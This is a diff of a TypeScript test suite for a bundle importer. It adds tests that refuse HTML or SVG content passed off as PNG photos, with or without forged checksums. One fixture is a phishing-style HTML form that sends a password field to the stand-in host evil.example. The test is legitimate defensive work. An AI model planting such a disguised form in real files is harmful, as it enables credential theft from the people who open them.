@@ -100,7 +100,7 @@ describe('bundle refusals, each with its own message', () => {
   })
 
   it('a changed photo fails its own checksum', async () => {
-    const name = `photos/${rows.photos[0]!.id}.svg`
+    const name = `photos/${rows.photos[0]!.id}.png`
     const bytes = await rezip(await bundle(), (f) => {
       const b = f[name]!.slice()
       b[b.length - 2] = b[b.length - 2]! ^ 0xff
@@ -110,11 +110,61 @@ describe('bundle refusals, each with its own message', () => {
   })
 
   it('a removed photo is a missing part', async () => {
-    const name = `photos/${rows.photos[3]!.id}.svg`
+    const name = `photos/${rows.photos[3]!.id}.png`
     const bytes = await rezip(await bundle(), (f) => {
       delete f[name]
     })
     expect(await refusal(bytes)).toEqual({ code: 'missing-part', params: { part: name } })
+  })
+
+  it('a "photo" that is HTML under an image name is refused, checksums fixed or not', async () => {
+    const p = rows.photos[0]!
+    const name = `photos/${p.id}.png`
+    const html = strToU8('<html><form action="https://evil.example"><input name=pw></form>')
+    const sha = await sha256Hex(html)
+    const bytes = await rezip(
+      await bundle(),
+      (f) => {
+        f[name] = html
+        const photos = JSON.parse(strFromU8(f['photos.json']!)) as { id: string; sha256: string }[]
+        photos.find((x) => x.id === p.id)!.sha256 = sha
+        f['photos.json'] = strToU8(JSON.stringify(photos))
+      },
+      true,
+    )
+    expect(await refusal(bytes)).toEqual({
+      code: 'not-image',
+      params: { part: name, mime: 'image/png' },
+    })
+  })
+
+  it('a photo declared text/html or SVG is refused even when its bytes say so honestly', async () => {
+    for (const [mime, body] of [
+      ['text/html', '<html><body>login</body></html>'],
+      ['image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg"><a href="x"/></svg>'],
+    ] as const) {
+      const p = rows.photos[0]!
+      const name = `photos/${p.id}.png`
+      const sha = await sha256Hex(strToU8(body))
+      const bytes = await rezip(
+        await bundle(),
+        (f) => {
+          f[name] = strToU8(body)
+          const photos = JSON.parse(strFromU8(f['photos.json']!)) as {
+            id: string
+            mime: string
+            sha256: string
+          }[]
+          Object.assign(
+            photos.find((x) => x.id === p.id)!,
+            { mime, sha256: sha },
+          )
+          f['photos.json'] = strToU8(JSON.stringify(photos))
+        },
+        true,
+      )
+      expect(await refusal(bytes)).toEqual({ code: 'not-image', params: { part: name, mime } })
+    }
   })
 
   it('a cut-off file is truncated', async () => {
